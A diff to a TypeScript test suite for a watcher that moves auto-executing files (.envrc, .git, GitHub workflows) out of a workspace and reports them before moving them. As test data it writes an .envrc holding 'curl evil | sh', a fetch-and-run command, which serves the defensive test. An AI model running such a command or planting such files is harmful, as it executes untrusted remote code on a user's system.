@@ -415,6 +415,11 @@ describe('the live watch of a long-lived process', () => {
     const watch = watchAlwaysCardLive(ws, refused);
     const seen: string[] = [];
     watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
+    // Told before the move (the guard stops the process first): the entry is still there then.
+    const told: [string, boolean][] = [];
+    watch.onAppeared((rels) =>
+      told.push(...rels.map((rel): [string, boolean] => [rel, fs.existsSync(path.join(ws, rel))])),
+    );
     try {
       fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
       await until(() => !fs.existsSync(path.join(ws, '.envrc')), '.envrc moved');
@@ -425,6 +430,13 @@ describe('the live watch of a long-lived process', () => {
       fs.writeFileSync(path.join(ws, '.github', 'workflows', 'x.yml'), 'on: push\n');
       await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'workflows moved');
       expect(seen).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
+      expect(told).toEqual(
+        expect.arrayContaining([
+          ['.envrc', true],
+          ['.git', true],
+          ['.github/workflows', true],
+        ]),
+      );
       // Ordinary work stays.
       fs.writeFileSync(path.join(ws, 'notes.md'), 'fine\n');
       await new Promise((resolve) => setTimeout(resolve, 200));
